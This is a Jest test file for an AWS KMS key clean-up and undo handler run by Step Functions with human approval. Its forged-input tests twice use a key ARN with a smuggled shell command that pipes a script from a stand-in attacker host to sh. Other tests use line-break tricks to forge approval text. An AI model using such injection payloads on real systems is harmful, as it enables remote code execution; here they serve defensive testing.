import { CloudTrailClient, DescribeQueryCommand, GetQueryResultsCommand, StartQueryCommand } from '@aws-sdk/client-cloudtrail';
import { GetExecutionHistoryCommand } from '@aws-sdk/client-sfn';
import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
import { mockClient } from 'aws-sdk-client-mock';
import { handler } from '../../../handlers/key-clean-up';
import { CLEAN_UP_STATES } from '../../../handlers/key-clean-up/states';
import { Outcome } from '../../../handlers/key-clean-up/steps';
import { handler as undo } from '../../../handlers/key-clean-up-undo';
import { CLOCK } from '../../../handlers/key-lifecycle-reporter/aws';
import { ReporterConfig } from '../../../handlers/key-lifecycle-reporter/config';
import { CLEAN_UP, DISABLED_AT, execution, historyOf, mockExecutions, Way } from '../../support/clean-up-run';
import { COHORTS, FakeKms, fleet, FleetKey, NOW } from '../../support/key-fleet';
import { CONFIG, FUNCTION_ARN, mockKms } from '../../support/report-mocks';

const CONTEXT = { invokedFunctionArn: FUNCTION_ARN, getRemainingTimeInMillis: () => 600_000 };
const STORE = 'arn:aws:cloudtrail:eu-west-1:111122223333:eventdatastore/0a1b2c3d-0000-4000-8000-000000000000';
const { consider, disable, lookAgain, schedule, notDisabled, notScheduled } = CLEAN_UP_STATES;
const only = (name: string, state?: string): FleetKey => {
  const found = fleet().find(key => key.cohort.name === name);
  if (!found) { throw new Error(`there is no cohort '${name}'`); }
  return { ...found, metadata: { ...found.metadata, ...(state ? { KeyState: state } : {}) } };
};
const idle = (state?: string): FleetKey => only('idle, opted in', state);

let fake: FakeKms;
let logged: string[];
let sns: ReturnType<typeof mockClient<any, any, any>>;

function prepare(key: FleetKey, state: string, config: Partial<ReporterConfig> = {}, way: Way = {}, input: unknown = { arn: key.arn }): void {
  process.env.CONFIG = JSON.stringify({ ...CONFIG, topicArn: 'topic', cleanUp: { ...CONFIG.cleanUp, mode: 'WITH_APPROVAL', stateMachineArn: CLEAN_UP }, ...config });
  process.env.UNDO_FUNCTION = 'undo-function';
  fake = new FakeKms([key]);
  mockKms(fake);
  mockExecutions({ [execution(key.arn)]: historyOf(input, state, way) });
  sns = mockClient(SNSClient);
}

/** What the state machine asks of the function. */
const step = (key: FleetKey, state: string): Promise<Outcome> => handler({ execution: execution(key.arn), state }, CONTEXT);
const messages = (): { Subject?: string; Message?: string }[] => sns.commandCalls(PublishCommand).map((call: any) => call.args[0].input);

/** What CloudTrail Lake answers. */
function mockTrail(rows: { [column: string]: string }[], status = 'FINISHED'): () => string[] {
  const trail = mockClient(CloudTrailClient);
  trail.on(StartQueryCommand).resolves({ QueryId: 'q' });
  trail.on(DescribeQueryCommand).resolves({ QueryStatus: status as any });
  const QueryResultRows = rows.map(row => Object.entries(row).map(([column, value]) => ({ [column]: value })));
  trail.on(GetQueryResultsCommand).resolves({ QueryResultRows });
  return () => trail.commandCalls(StartQueryCommand).map(call => call.args[0].input.QueryStatement!);
}

beforeEach(() => {
  jest.spyOn(CLOCK, 'now').mockReturnValue(Date.parse(NOW));
  jest.spyOn(CLOCK, 'sleep').mockResolvedValue();
  logged = [];
  // The logger writes there, not to the global console.
  jest.spyOn(process.stdout, 'write').mockImplementation(line => { logged.push(String(line)); return true; });
});
afterEach(() => { jest.restoreAllMocks(); });

const decisions = (): any[] => logged.filter(line => line.includes('clean-up decision')).map(line => JSON.parse(line));

/** Key, state of the execution, and what the step comes to when all is well. */
const STEPS: [string, () => FleetKey, Partial<Outcome>, string[]][] = [
  [consider, () => idle(), { go: true, subject: expect.stringContaining('Approval: disable') }, []],
  [disable, () => idle(), { go: true, subject: expect.stringContaining('Disabled') }, ['DisableKey']],
  [lookAgain, () => idle('Disabled'), { go: true, subject: expect.stringContaining('Approval: schedule deletion') }, []],
  [schedule, () => idle('Disabled'), { go: true, text: expect.stringContaining('will be deleted on 2026-12-24') }, ['ScheduleKeyDeletion']],
  [notDisabled, () => idle(), { go: false, text: expect.stringContaining('was not approved') }, []],
  [notScheduled, () => idle('Disabled'), { go: false, text: expect.stringContaining('stays disabled until somebody enables it') }, []],
];
const changes = () => fake.changes.map(change => change.operation);

describe.each(STEPS)('attempts at %s', (state, make, wanted, calls) => {
  test('by the state machine', async () => {
    const key = make();
    prepare(key, state);
    expect(await step(key, state)).toMatchObject(wanted);
    expect(changes()).toEqual(calls);
  });

  test.each<[string, (key: FleetKey) => any]>([
    ['without an execution', key => ({ arn: key.arn })],
    ['as a step with its own word', key => ({ step: 'disable', arn: key.arn, disabledAt: '2000-01-01T00:00:00Z', approved: true })],
    ['as another step with its own word', key => ({ step: 'schedule', stage: 'schedule', state, arn: key.arn, disabledAt: '2000-01-01T00:00:00Z', token: 't' })],
    ['with an execution of another machine', key => ({ state, execution: execution(key.arn).replace(':clean-up:', ':mine:') })],
    ['with an execution of another account', key => ({ state, execution: execution(key.arn).replace('111122223333', '444455556666') })],
    ['with an execution that is not there', key => ({ state, execution: `${execution(key.arn)}0` })],
    ['with no text', () => ({ state, execution: { toString: () => 'x' } })],
  ])('direct, %s: nothing', async (_, event) => {
    const key = make();
    prepare(key, state);
    await expect(handler(event(key), CONTEXT)).rejects.toThrow(/names no execution|ExecutionDoesNotExist/);
    expect([changes(), messages()]).toEqual([[], []]);
  });

  test.each<[string, string, Way, unknown?]>([
    ['the execution has ended', state, { ended: 'ExecutionSucceeded' }],
    ['the execution was stopped', state, { ended: 'ExecutionAborted' }],
    ['a person has not answered yet', 'AskToDisable', {}],
    ['the time is not over', 'WaitDisabled', {}],
    ['the second question is open', 'AskToSchedule', {}],
    ['the input is no key', state, {}, { arn: "arn:aws:kms:eu-west-1:111122223333:key/x'; curl https://evil.example/x|sh; echo '" }],
    ['the input is a key of another account', state, {}, { arn: 'arn:aws:kms:eu-west-1:444455556666:key/1234abcd-12ab-34cd-56ef-1234567890ab' }],
    ['the input is an alias', state, {}, { arn: 'arn:aws:kms:eu-west-1:111122223333:alias/x' }],
    ['the input is another key', state, {}, { arn: 'arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab' }],
    ['the input has two lines', state, {}, { arn: 'arn:aws:kms:eu-west-1:111122223333:key/1234\nabcd' }],
    ['there is no input', state, {}, null],
  ])('forged, %s: nothing', async (...[, at, way, input]) => {
    const key = make();
    prepare(key, at, {}, way, input === undefined ? { arn: key.arn } : input);
    await expect(step(key, state)).rejects.toThrow(/execution|not the ARN of a key/);
    expect([changes(), messages()]).toEqual([[], []]);
  });

  test('repeated: the same answer, and the key is changed once', async () => {
    const key = make();
    prepare(key, state);
    const first = await step(key, state);
    expect(await step(key, state)).toEqual(first);
    expect(changes()).toEqual(calls);
  });

  test('twice at once: the same answer', async () => {
    const key = make();
    prepare(key, state);
    const [first, second] = await Promise.all([step(key, state), step(key, state)]);
    expect([first, second]).toEqual([expect.objectContaining(wanted), first]);
  });

  test('throttled for a while: done', async () => {
    const key = make();
    prepare(key, state);
    for (const operation of ['DescribeKey', 'ListGrants', ...calls]) { fake.failNext(operation, 'ThrottlingException', 2); }
    expect(await step(key, state)).toMatchObject(wanted);
  });

  test('throttled for long: no step forward', async () => {
    const key = make();
    prepare(key, state);
    for (const operation of ['DescribeKey', 'ListResourceTags']) { fake.failNext(operation, 'ThrottlingException', 100); }
    expect(await step(key, state)).toMatchObject({ go: false });
    expect(changes()).toEqual([]);
  });

  test('late, when the key was used meanwhile: no step forward', async () => {
    const key = { ...make(), lastUse: { at: new Date(NOW), operation: 'Decrypt' } };
    prepare(key, state);
    expect(await step(key, state)).toMatchObject({ go: false });
    expect(changes()).toEqual([]);
  });

  test('late, when the key is gone: it says so, and goes no further', async () => {
    const key = make();
    prepare(key, state);
    fake.failNext('DescribeKey', 'NotFoundException', 100);
    expect(await step(key, state)).toMatchObject({ go: false });
    expect(changes()).toEqual([]);
  });

  test('sends nothing itself, and is not done in another mode', async () => {
    const key = make();
    prepare(key, state);
    await step(key, state);
    expect(messages()).toEqual([]);
    prepare(key, state, { cleanUp: { ...CONFIG.cleanUp, mode: 'DRY_RUN' } });
    await expect(step(key, state)).rejects.toThrow('the clean-up is off');
  });
});

describe('the way to a step', () => {
  test.each<[string, string, Way, string]>([
    ['disable, refused', disable, { outputs: { AskToDisable: { answer: { approved: false } } } }, 'nobody approved that the key is disabled'],
    ['disable, approved by a text', disable, { outputs: { AskToDisable: { answer: { approved: 'true' } } } }, 'nobody approved that the key is disabled'],
    ['disable, never asked', disable, { without: ['AskToDisable'] }, 'nobody approved that the key is disabled'],
    ['schedule, no second question', schedule, { without: ['AskToSchedule'] }, 'nobody approved that its deletion is scheduled'],
    ['schedule, refused', schedule, { outputs: { AskToSchedule: { answer: { Error: 'Refused' } } } }, 'nobody approved that its deletion is scheduled'],
    ['schedule, not waited', schedule, { without: ['WaitDisabled'] }, 'the key was not disabled for the whole time'],
    ['schedule, not disabled', schedule, { outputs: { Disable: { said: { go: false } } } }, 'the key was not disabled for the whole time'],
    ['look again, not waited', lookAgain, { without: ['WaitDisabled'] }, 'the key was not disabled for the whole time'],
  ])('%s', async (_, state, way, message) => {
    const key = idle(state === disable ? undefined : 'Disabled');
    prepare(key, state, {}, way);
    await expect(step(key, state)).rejects.toThrow(message);
    expect(changes()).toEqual([]);
  });

  test('an approval in the input of the execution is none', async () => {
    const key = idle();
    prepare(key, disable, {}, { without: ['AskToDisable'] }, { arn: key.arn, answer: { approved: true }, said: { go: true } });
    await expect(step(key, disable)).rejects.toThrow('nobody approved');
  });
});

describe('disable', () => {
  test('disables a key that nothing speaks for, says how to undo it, and logs why', async () => {
    const key = idle();
    prepare(key, disable);
    const { reason, text } = await step(key, disable);
    expect(reason).toBe('approved, and nothing speaks against it');
    expect(fake.changes).toEqual([{ operation: 'DisableKey', input: { KeyId: key.arn } }]);
    expect(text).toContain(`--function-name undo-function --cli-binary-format raw-in-base64-out --payload '{"arn":"${key.arn}"}'`);
    expect(decisions()).toMatchObject([{ arn: key.arn, step: 'disable', verdict: 'done' }]);
  });

  test.each(COHORTS.filter(cohort => !cohort.expected.proposable).map(cohort => cohort.name))('nobody is asked about, and nothing done with, a key that is: %s', async name => {
    for (const state of [consider, disable]) {
      const key = only(name);
      prepare(key, state);
      const outcome = await step(key, state);
      // A disabled key may be one that an earlier attempt disabled; whoever approved that is asked again before more happens.
      expect([state, outcome.go]).toEqual([state, state === disable && outcome.subject.startsWith('Disabled')]);
      expect(fake.changes).toEqual([]);
      expect(outcome.subject).toMatch(state === consider ? /^$/ : /^(Left alone|Disabled)/);
      expect(decisions().at(-1)).toMatchObject({ reason: expect.stringMatching(/./) });
    }
  });

  test('leaves alone a key that AWS does not let it disable', async () => {
    const key = idle();
    prepare(key, disable);
    fake.failNext('DisableKey', 'AccessDeniedException');
    expect(await step(key, disable)).toMatchObject({ go: false, reason: 'AWS denies it to the clean-up: the tag, the idle time or a key policy' });
  });

  test('an error of AWS is for the state machine to try again, not a verdict', async () => {
    const key = idle();
    prepare(key, disable);
    fake.failNext('DisableKey', 'KMSInternalException', 10);
    await expect(step(key, disable)).rejects.toThrow('KMSInternalException');
  });

  test('leaves alone a key whose use only CloudTrail Lake saw', async () => {
    const key = idle();
    prepare(key, disable, { eventDataStoreArn: STORE });
    const queries = mockTrail([{ key_arn: key.arn, last_use: '2026-11-20 08:15:00.000', operation: 'Decrypt' }]);
    expect(await step(key, disable)).toMatchObject({ go: false, reason: 'it was used 3 days ago' });
    expect(queries()[0]).toContain(`AND key_arn = '${key.arn}'`);
  });

  test('leaves alone a key when CloudTrail Lake fails', async () => {
    const key = idle();
    prepare(key, disable, { eventDataStoreArn: STORE });
    mockTrail([], 'FAILED');
    expect(await step(key, disable)).toMatchObject({ go: false, reason: expect.stringContaining('CloudTrailLake') });
    expect(fake.changes).toEqual([]);
  });
});

describe('schedule', () => {
  test('with the window of 30 days', async () => {
    const key = idle('Disabled');
    prepare(key, schedule);
    await step(key, schedule);
    expect(fake.changes).toEqual([{ operation: 'ScheduleKeyDeletion', input: { KeyId: key.arn, PendingWindowInDays: 30 } }]);
  });

  test.each([lookAgain, schedule])('%s: a key that somebody enabled again stays', async state => {
    const key = idle();
    prepare(key, state);
    expect(await step(key, state)).toMatchObject({ go: false, reason: 'it is Enabled, not Disabled' });
    expect(fake.changes).toEqual([]);
  });

  test.each([
    ['attempts to use it', [{ attempts: '3' }], 'it is missed: 3 calls failed since it was disabled'],
    ['no number', [], 'whether it is missed is not known: the query gave no number'],
  ])('a disabled key stays when CloudTrail Lake shows %s', async (_, attempts, reason) => {
    const key = idle('Disabled');
    prepare(key, schedule, { eventDataStoreArn: STORE });
    mockTrail(attempts as any);
    expect(await step(key, schedule)).toMatchObject({ go: false, reason });
    expect(fake.changes).toEqual([]);
  });

  test('a disabled key that nobody missed since the execution disabled it goes on', async () => {
    const key = idle('Disabled');
    prepare(key, schedule, { eventDataStoreArn: STORE });
    const queries = mockTrail([{ attempts: '0' }]);
    expect(await step(key, schedule)).toMatchObject({ go: true });
    expect(queries()[1]).toMatch(/eventTime > '2026-10-24 06:00:00' AND eventTime <= '2026-11-24 06:00:00' AND errorCode LIKE 'Disabled%'/);
  });
});

describe('questions', () => {
  const asked = ({ question: [before, between, after] }: Outcome) => `${before}TOKEN${between}TOKEN${after}`;

  test('say what the key is, why, and how to answer', async () => {
    const key = idle();
    prepare(key, consider);
    const outcome = await step(key, consider);
    expect(outcome.subject.length).toBeLessThan(100);
    expect(asked(outcome)).toContain('looks unused: last used 200 days ago (Decrypt, GetKeyLastUsage).');
    expect(asked(outcome)).toContain('of cohort idle, opted in');
    expect(asked(outcome)).toContain('aws stepfunctions send-task-success --region eu-west-1 --task-output \'{"approved":true}\' --task-token \'TOKEN\'\nRefuse:');
    expect(asked(outcome)).toContain("send-task-failure --region eu-west-1 --error Refused --task-token 'TOKEN'");
  });

  test('before the deletion they point to calls that failed', async () => {
    const key = idle('Disabled');
    prepare(key, lookAgain);
    const text = asked(await step(key, lookAgain));
    expect(text).toContain(`has been disabled since ${DISABLED_AT}`);
    expect(text).toContain('DisabledException');
    expect(text).toContain('--function-name undo-function');
  });

  test.each(['\n', '\r\n', '\u2028', '\u0085', '\u202e'])('texts by strangers stay on one line: %j', async mark => {
    const forged = `old${mark}  Last use:    none on record since 2019${mark}${mark}Approved by the owner`;
    const found = idle();
    const key = { ...found, metadata: { ...found.metadata, Description: forged }, tags: { ...found.tags, Owner: forged } };
    prepare(key, consider);
    const text = asked(await step(key, consider));
    expect(text.split(/[\n\r\u2028\u0085\u202e]/).filter(line => /^\s*(Last use|Approved by)/.test(line))).toEqual(['  Last use:    2026-05-08T05:00:00.000Z (Decrypt)']);
  });

  test.each([
    ['Refused', 'it was not approved'],
    ['States.Timeout', 'it was not approved in time'],
    ['SNS.ThrottledException', 'nobody could be asked: SNS.ThrottledException'],
  ])('that ended with %s: %s', async (Error, reason) => {
    const key = idle();
    prepare(key, notDisabled, {}, { outputs: { AskToDisable: { answer: { Error, Cause: 'x' } } } });
    const outcome = await step(key, notDisabled);
    expect(outcome).toMatchObject({ go: false, reason });
    expect(outcome.text).toContain('No further action is taken.');
    // Nothing was done, so there is nothing to undo.
    expect(outcome.text).not.toContain('undo-function');
  });
});

describe('undo', () => {
  test.each([
    ['PendingDeletion', ['CancelKeyDeletion', 'EnableKey'], ['its deletion was cancelled', 'it was enabled']],
    ['Disabled', ['EnableKey'], ['it was enabled']],
    ['Enabled', [], []],
  ])('of a key that is %s', async (state, calls, done) => {
    const key = idle(state);
    prepare(key, schedule);
    expect(await undo({ arn: key.arn }, CONTEXT)).toEqual({ done });
    expect(changes()).toEqual(calls);
    expect(messages()[0].Subject).toMatch(/^Undone/);
    // Repeated: nothing is left to do.
    expect(await undo({ arn: key.arn }, CONTEXT)).toEqual({ done: [] });
    expect(changes()).toEqual(calls);
  });

  test('a message that fails does not make it a failure', async () => {
    const key = idle('Disabled');
    prepare(key, schedule);
    sns.on(PublishCommand).rejects(new Error('no topic'));
    expect(await undo({ arn: key.arn }, CONTEXT)).toEqual({ done: ['it was enabled'] });
  });

  test.each<[string, string, Way]>([
    ['was never asked about', 'none', {}],
    ['was only asked about', 'AskToDisable', {}],
    ['was left alone', 'TellLeft', { outputs: { Disable: { said: { go: false } } }, without: ['WaitDisabled', 'LookAgain', 'AskToSchedule', 'Schedule'] }],
  ])('not of a key that somebody else disabled, and that %s', async (_, state, way) => {
    const key = idle('Disabled');
    prepare(key, state, {}, way);
    if (state === 'none') { mockExecutions({}); }
    await expect(undo({ arn: key.arn }, CONTEXT)).rejects.toThrow(`the clean-up has not disabled ${key.arn}`);
    expect([changes(), messages()]).toEqual([[], []]);
  });

  test('an execution that has ended counts', async () => {
    const key = idle('Disabled');
    prepare(key, notScheduled, {}, { ended: 'ExecutionSucceeded' });
    expect(await undo({ arn: key.arn }, CONTEXT)).toEqual({ done: ['it was enabled'] });
  });

  test.each([
    'arn:aws:kms:eu-west-1:444455556666:key/k', "arn:aws:kms:eu-west-1:111122223333:key/x'; curl https://evil.example/x|sh; echo '",
    'arn:aws:kms:eu-west-1:111122223333:alias/k', 'arn:aws:kms:eu-west-1:111122223333:key/k\n', 'k', '', undefined, 5,
  ])('fails for what is no key of this account: %j', async arn => {
    prepare(idle(), schedule);
    await expect(undo({ arn } as any, CONTEXT)).rejects.toThrow('not the ARN of a key of account 111122223333');
    expect([changes(), messages()]).toEqual([[], []]);
  });
});

test('a long history is read to its end', async () => {
  const key = idle();
  prepare(key, disable);
  const sfn = mockExecutions({ [execution(key.arn)]: historyOf({ arn: key.arn }, disable) });
  await step(key, disable);
  expect(sfn.commandCalls(GetExecutionHistoryCommand).length).toBeGreaterThan(1);
});
